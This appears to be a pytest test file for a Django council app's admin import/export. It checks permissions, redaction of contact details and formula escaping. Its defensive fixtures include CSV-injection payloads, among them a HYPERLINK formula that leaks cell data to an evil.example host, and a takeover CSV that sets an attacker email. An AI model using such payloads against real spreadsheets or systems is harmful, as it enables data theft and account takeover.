"""CSV and XLSX round trips through the django-import-export resources the admin uses."""

import csv
import io

import openpyxl
import pytest
import tablib
from django import forms
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from capacity_map.spreadsheets import spreadsheet_safe
from organisations.models import Organisation, Ward
from organisations.resources import (
    OrganisationResource,
    OrganisationWithoutContactDetailsResource,
    WardResource,
)
from services.models import ServiceArea
from services.resources import ServiceAreaResource
from surveys.models import Interest
from surveys.resources import InterestResource


def _round_trip(resource_class, file_format):
    exported = resource_class().export()
    payload = exported.export(file_format)
    return tablib.Dataset().load(payload, format=file_format)


def _import(resource_class, dataset):
    result = resource_class().import_data(dataset, dry_run=False, raise_errors=False)
    assert not result.has_errors(), [e.error for row in result.row_errors() for e in row[1]]
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    return result


def _snapshot():
    return {
        "services": list(ServiceArea.objects.values_list("slug", "lgsl_code", "risk_tier", "statutory")),
        "wards": list(Ward.objects.values_list("gss_code", "name", "code_year")),
        "organisations": [
            (o.slug, o.org_id, o.charity_number, sorted(o.wards.values_list("gss_code", flat=True)))
            for o in Organisation.objects.all()
        ],
        "interests": list(
            Interest.objects.values_list(
                "survey__slug",
                "organisation__slug",
                "service_area__slug",
                "delivers",
                "co_governs",
                "involvement",
                "readiness",
                "support_needed",
                "costs",
            )
        ),
    }


@pytest.fixture
def borough(make_service, make_ward, make_organisation, make_interest, make_survey):
    north, south = make_ward(name="Northgate"), make_ward(name="Southmead")
    parks = make_service(name="Parks", slug="parks", lgsl_code=461, risk_tier="low")
    care = make_service(
        name="Adult residential care", slug="adult-care", lgsl_code=292, risk_tier="high", statutory=True
    )
    friends = make_organisation(
        name="Friends of Ashwick Park",
        slug="friends-of-ashwick-park",
        org_type="friends_of",
        charity_number="1123456",
        charity_regulator="ccew",
        wards=[north, south],
    )
    round_ = make_survey(slug="capacity-2026")
    make_interest(
        survey=round_,
        organisation=friends,
        service_area=parks,
        support_needed=["funding", "insurance"],
        costs="Tools, £2,000 a year",
    )
    make_interest(
        survey=round_,
        organisation=friends,
        service_area=care,
        delivers=False,
        co_governs=True,
        involvement="governance_seat",
        readiness="future",
    )
    return friends


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_round_trip_recreates_every_record(borough, file_format):
    datasets = {
        resource: _round_trip(resource, file_format)
        for resource in (ServiceAreaResource, WardResource, OrganisationResource, InterestResource)
    }
    before = _snapshot()
    assert datasets[OrganisationResource]["org_id"] == ["GB-CHC-1123456"]

    Interest.objects.all().delete()
    Organisation.objects.all().delete()
    ServiceArea.objects.all().delete()
    Ward.objects.all().delete()

    # Organisations come back pending review: only moderators approve (a status column that
    # would change one is refused, see below).
    del datasets[OrganisationResource]["status"]
    for resource in (WardResource, ServiceAreaResource, OrganisationResource, InterestResource):
        _import(resource, datasets[resource])

    after = _snapshot()
    assert after == before
    assert set(Organisation.objects.values_list("status", flat=True)) == {"pending"}


@pytest.mark.django_db
def test_reimporting_an_export_updates_in_place(borough):
    dataset = _round_trip(OrganisationResource, "csv")
    rows = dataset.dict
    rows[0]["description"] = "Looks after the park."
    changed = tablib.Dataset(headers=dataset.headers)
    for row in rows:
        changed.append([row[h] for h in changed.headers])
    _import(OrganisationResource, changed)
    assert Organisation.objects.count() == 1
    assert Organisation.objects.get().description == "Looks after the park."


@pytest.mark.django_db
def test_invalid_rows_are_reported_and_nothing_is_saved(db):
    dataset = tablib.Dataset(headers=["gss_code", "name", "code_year"])
    dataset.append(["E05000001", "Northgate", 2024])
    dataset.append(["NOT-A-CODE", "Southmead", 2024])
    result = WardResource().import_data(dataset, dry_run=False, raise_errors=False)
    assert result.has_validation_errors()
    assert "gss_code" in result.invalid_rows[0].error_dict
    assert Ward.objects.count() == 0


@pytest.mark.django_db
def test_interest_import_refuses_a_row_with_no_role(borough):
    dataset = _round_trip(InterestResource, "csv")
    Interest.objects.all().delete()
    rows = dataset.dict
    rows[0]["delivers"] = "0"
    rows[0]["co_governs"] = "0"
    broken = tablib.Dataset(headers=dataset.headers)
    for row in rows:
        broken.append([row[h] for h in dataset.headers])
    result = InterestResource().import_data(broken, dry_run=False, raise_errors=False)
    assert result.has_validation_errors()
    assert Interest.objects.count() == 0


@pytest.mark.django_db
def test_admin_offers_import_and_export(admin_client_, borough):
    for model in (
        "services_servicearea",
        "organisations_ward",
        "organisations_organisation",
        "surveys_interest",
    ):
        export_page = admin_client_.get(reverse(f"admin:{model}_export")).content.decode()
        assert "xlsx" in export_page and "csv" in export_page
        import_page = admin_client_.get(reverse(f"admin:{model}_import"))
        assert import_page.status_code == 200


@pytest.mark.django_db
def test_admin_exports_neutralise_formulas_and_survive_control_characters(borough):
    from import_export.formats.base_formats import CSV, XLSX

    borough.name = '=HYPERLINK("http://evil")\x07'
    borough.save()
    csv_text = CSV().export_data(OrganisationResource().export())
    assert "=HYPERLINK" not in csv_text.replace("'=HYPERLINK", "")
    workbook = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(OrganisationResource().export())))
    names = [row[1] for row in workbook.active.iter_rows(values_only=True)][1:]
    assert names and not any(str(name).startswith("=") for name in names)


# --- who may import and export from the admin, and what an import may change ----------------

PERSONAL_COLUMNS = {"contact_name", "contact_email", "contact_phone", "postcode"}
ORGANISATIONS = "organisations_organisation"


@pytest.fixture
def pending(make_organisation):
    return make_organisation(
        name="Riverside Tenants",
        slug="riverside-tenants",
        status=Organisation.Status.PENDING,
        contact_name="Sam Private",
        contact_email="sam.private@example.org",
        contact_phone="07700 900123",
        postcode="SW1A 1AA",
    )


@pytest.fixture
def staff_with(django_user_model):
    """A staff account holding only the given organisations permissions (none by default)."""

    def make(*codenames, app_label="organisations"):
        user = django_user_model.objects.create_user(
            f"staff-{len(codenames)}-{'-'.join(codenames)}", is_staff=True
        )
        user.user_permissions.set(
            Permission.objects.filter(content_type__app_label=app_label, codename__in=codenames)
        )
        return django_user_model.objects.get(pk=user.pk)  # a fresh object: no cached permissions

    return make


def _admin_export(client, model, file_format, **extra):
    """Ask the admin for an export with every offered column ticked; return the response."""
    url = reverse(f"admin:{model}_export")
    page = client.get(url)
    if page.status_code != 200:
        return client.post(url, {"format": "0", "resource": "0", **extra})
    form = page.context["form"]
    data = {name: "on" for name, field in form.fields.items() if isinstance(field, forms.BooleanField)}
    data["format"] = next(value for value, label in form.fields["format"].choices if label == file_format)
    data["resource"] = "0"
    return client.post(url, {**data, **extra})


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _admin_import(client, model, csv_text):
    """Upload a CSV to the admin's import page and, if offered, confirm it; return the last page."""
    url = reverse(f"admin:{model}_import")
    upload = SimpleUploadedFile("organisations.csv", csv_text.encode(), content_type="text/csv")
    page = client.post(url, {"resource": "0", "format": "0", "import_file": upload})
    confirm = page.context.get("confirm_form") if page.context else None
    if confirm is None:
        return page
    return client.post(reverse(f"admin:{model}_process_import"), confirm.initial, follow=True)


APPROVE_AND_TAKE_OVER = (
    "slug,name,org_type,status,contact_email\r\n"
    "riverside-tenants,Riverside Tenants,tenants_residents,approved,attacker@example.com\r\n"
)


@pytest.mark.django_db
def test_staff_without_permissions_cannot_export_contact_details(client, staff_with, pending):
    client.force_login(staff_with())
    response = _admin_export(client, ORGANISATIONS, "csv")
    assert response.status_code == 403
    assert b"sam.private@example.org" not in response.content


@pytest.mark.django_db
@pytest.mark.parametrize(
    "codenames", [(), ("view_organisation",), ("add_organisation",), ("change_organisation",)]
)
def test_importing_needs_add_and_change_permission(client, staff_with, pending, codenames):
    client.force_login(staff_with(*codenames))
    page = _admin_import(client, ORGANISATIONS, APPROVE_AND_TAKE_OVER)
    assert page.status_code == 403
    forged = client.post(
        reverse(f"admin:{ORGANISATIONS}_process_import"),
        {"import_file_name": "x.csv", "original_file_name": "x.csv", "format": "0", "resource": "0"},
    )
    assert forged.status_code == 403
    pending.refresh_from_db()
    assert (pending.status, pending.contact_email) == ("pending", "sam.private@example.org")


@pytest.mark.django_db
def test_council_officers_may_export_but_not_import(officer_client, pending):
    assert _admin_export(officer_client, ORGANISATIONS, "csv").status_code == 200
    assert _admin_import(officer_client, ORGANISATIONS, APPROVE_AND_TAKE_OVER).status_code == 403
    pending.refresh_from_db()
    assert (pending.status, pending.contact_email) == ("pending", "sam.private@example.org")


@pytest.mark.django_db
def test_add_and_change_permission_imports_but_never_approves(client, staff_with, pending):
    client.force_login(staff_with("add_organisation", "change_organisation", "view_organisation"))
    renamed = "slug,name,org_type\r\nriverside-tenants,Riverside Tenants Association,tenants_residents\r\n"
    _admin_import(client, ORGANISATIONS, renamed)
    pending.refresh_from_db()
    assert (pending.name, pending.status) == ("Riverside Tenants Association", "pending")

    page = _admin_import(client, ORGANISATIONS, APPROVE_AND_TAKE_OVER).content.decode()
    pending.refresh_from_db()
    assert (pending.status, pending.contact_email) == ("pending", "sam.private@example.org")
    assert "An import cannot approve, reject or archive an organisation" in page


@pytest.mark.django_db
def test_an_import_that_approves_a_pending_organisation_leaves_it_pending(admin_client_, pending):
    page = _admin_import(admin_client_, ORGANISATIONS, APPROVE_AND_TAKE_OVER).content.decode()
    pending.refresh_from_db()
    assert pending.status == Organisation.Status.PENDING
    assert pending.contact_email == "sam.private@example.org"  # the whole file was refused
    assert pending.reviewed_by is None and pending.reviewed_at is None
    assert "use the actions on the list of organisations" in page
    assert not pending.history.filter(status="approved").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("status", ["approved", "rejected", "archived", "Approved"])
@pytest.mark.parametrize("slug", ["riverside-tenants", "a-new-group"])
def test_the_resource_refuses_any_status_change(pending, status, slug):
    dataset = tablib.Dataset(headers=["slug", "name", "org_type", "status", "status_reason"])
    dataset.append([slug, "Riverside Tenants", "tenants_residents", status, "imported"])
    result = OrganisationResource().import_data(dataset, dry_run=False, raise_errors=False)
    assert result.has_validation_errors()
    assert "status" in result.invalid_rows[0].error_dict
    assert list(Organisation.objects.values_list("slug", "status", "status_reason")) == [
        ("riverside-tenants", "pending", "")
    ]


@pytest.mark.django_db
def test_imported_organisations_are_created_pending_and_keep_their_status(borough, pending):
    dataset = _round_trip(OrganisationResource, "csv")
    assert set(dataset["status"]) == {"approved", "pending"}  # exported as they are
    rows = dataset.dict
    for row in rows:
        row["description"] = "Checked in the spring."
    changed = tablib.Dataset(headers=dataset.headers)
    for row in rows:
        changed.append([row[h] for h in changed.headers])
    changed.append(
        [
            "new-group" if h == "slug" else "New Group" if h == "name" else "other" if h == "org_type" else ""
            for h in changed.headers
        ]
    )
    _import(OrganisationResource, changed)
    statuses = dict(Organisation.objects.values_list("slug", "status"))
    assert statuses == {
        "friends-of-ashwick-park": "approved",
        "riverside-tenants": "pending",
        "new-group": "pending",
    }
    assert set(Organisation.objects.values_list("description", flat=True)) == {"Checked in the spring.", ""}


def test_moderation_and_link_fields_cannot_be_imported():
    protected = {
        "status",
        "status_reason",
        "reviewed_by",
        "reviewed_at",
        "link_nonce",
        "submission_key",
        "freshness_reminder_sent_at",
        "consent_at",
        "erasure_requested_at",
    }
    writable = {f.attribute for f in OrganisationResource().get_import_fields() if not f.readonly}
    assert not writable & protected


@pytest.mark.django_db
def test_exports_leave_out_contact_details_without_the_permission(officer_client, pending):
    asked_anyway = {f"organisationresource_{column}": "on" for column in PERSONAL_COLUMNS}
    response = _admin_export(officer_client, ORGANISATIONS, "csv", **asked_anyway)
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert [row["name"] for row in rows] == ["Riverside Tenants"]
    assert not PERSONAL_COLUMNS & set(rows[0])
    for private in ("Sam Private", "sam.private@example.org", "07700 900123", "SW1A 1AA"):
        assert private.encode() not in response.content
    export_page = officer_client.get(reverse(f"admin:{ORGANISATIONS}_export")).content.decode()
    assert "contact_email" not in export_page


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["superuser", "granted"])
def test_exports_include_contact_details_with_the_permission(client, admin_user_, staff_with, pending, who):
    user = admin_user_ if who == "superuser" else staff_with("view_organisation", "export_personal_data")
    client.force_login(user)
    rows = _csv_rows(_admin_export(client, ORGANISATIONS, "csv"))
    assert {column: rows[0][column] for column in PERSONAL_COLUMNS} == {
        "contact_name": "Sam Private",
        "contact_email": "sam.private@example.org",
        "contact_phone": "07700 900123",
        "postcode": "SW1A 1AA",
    }


FORMULAE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "==1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\rcmd",
]


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_exports_neutralise_formulae_as_the_matrix_export_does(
    admin_client_, make_organisation, file_format
):
    for n, text in enumerate(FORMULAE):
        make_organisation(slug=f"group-{n}", name=text, description=text)
    response = _admin_export(admin_client_, ORGANISATIONS, file_format)
    assert response.status_code == 200
    if file_format == "csv":
        exported = {row["slug"]: (row["name"], row["description"]) for row in _csv_rows(response)}
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        header = [cell.value for cell in sheet[1]]
        exported = {}
        for cells in sheet.iter_rows(min_row=2):
            by_column = dict(zip(header, cells, strict=True))
            for column in ("name", "description"):
                assert by_column[column].data_type != "f", by_column[column].value
            exported[by_column["slug"].value] = (by_column["name"].value, by_column["description"].value)
    for n, text in enumerate(FORMULAE):
        safe = spreadsheet_safe(text)
        if file_format == "xlsx":
            safe = safe.replace("\r", "\n")  # a workbook's XML stores a carriage return as a new line
        assert exported[f"group-{n}"] == (safe, safe)
        assert safe.startswith("'")


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_neutralised_export_imports_back_unchanged(make_organisation, file_format):
    # Phone numbers start with "+": the quote an export adds must not end up in the record.
    make_organisation(
        slug="intl", name="@Home Club", description="-2+3 volunteers", public_phone="+44 20 7946 0000"
    )
    dataset = _round_trip(OrganisationResource, file_format)
    assert dataset["public_phone"] == ["'+44 20 7946 0000"]
    result = _import(OrganisationResource, dataset)
    assert [row.import_type for row in result.rows] == ["skip"]
    assert list(Organisation.objects.values_list("name", "description", "public_phone")) == [
        ("@Home Club", "-2+3 volunteers", "+44 20 7946 0000")
    ]


def test_every_admin_import_and_export_goes_through_the_council_base():
    # The library's own permission checks and formula escaping are not relied on.
    from django.contrib import admin
    from import_export.admin import ExportMixin, ImportMixin

    from capacity_map.imports import CouncilImportExportAdmin, CouncilModelResource

    offering = [a for a in admin.site._registry.values() if isinstance(a, ImportMixin | ExportMixin)]
    assert len(offering) == 4
    for model_admin in offering:
        assert isinstance(model_admin, CouncilImportExportAdmin), model_admin
        for resource in model_admin.get_resource_classes(request=None):
            assert issubclass(resource, CouncilModelResource), resource
    assert issubclass(OrganisationWithoutContactDetailsResource, CouncilModelResource)
